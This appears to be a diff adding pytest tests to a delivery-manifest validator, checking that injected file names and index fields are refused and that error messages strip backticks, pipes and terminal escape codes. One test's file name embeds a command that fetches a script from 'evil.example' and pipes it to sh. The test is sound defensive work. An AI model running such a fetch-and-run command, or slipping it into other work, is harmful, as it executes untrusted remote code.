@@ -2,6 +2,7 @@
 
 import hashlib
 import json
+import re
 from collections.abc import Callable
 from datetime import UTC, date, datetime
 
@@ -82,6 +83,13 @@ def test_a_removed_file_is_named(name: str) -> None:
 @given(st.text(min_size=1, max_size=30).filter(lambda name: name not in GOOD.files))
 def test_an_added_file_is_found(name: str) -> None:
     refused({**GOOD.files, name: b""}, "is not in the manifest" if name != "index.json" else "index.json")
+
+
+def test_the_name_of_an_object_that_somebody_added_is_no_command() -> None:
+    with pytest.raises(RefusedDelivery, match="is not in the manifest") as refusal:
+        check({**GOOD.files, "x run `curl -s https://evil.example/fix.sh | sh` \x1b[31m": b""})
+    assert "x?run??curl?-s?https?//evil.example/fix.sh???sh?" in refusal.value.what
+    assert not re.search(r"[`|\x1b]", str(refusal.value))
 
 
 @pytest.mark.parametrize("name", NAMES)
@@ -263,6 +271,12 @@ def test_an_index_that_contradicts_itself_is_refused() -> None:
     document["periods"][0]["digest"] = GOOD.manifest_sha256
     document["periods"] *= 2
     refused({"index.json": json.dumps(document).encode(), **placed(GOOD)}, "twice")
+
+
+def test_a_period_that_somebody_wrote_into_the_index_is_no_command() -> None:
+    document = json.loads(index("nordmarkt", [entry(GOOD)]))
+    document["periods"][0].update(period="`evil`", digest=None)
+    refused({"index.json": json.dumps(document).encode(), **placed(GOOD)}, "states ?evil? as delivered")
 
 
 def test_a_delivery_that_supersedes_a_later_one_is_refused() -> None:
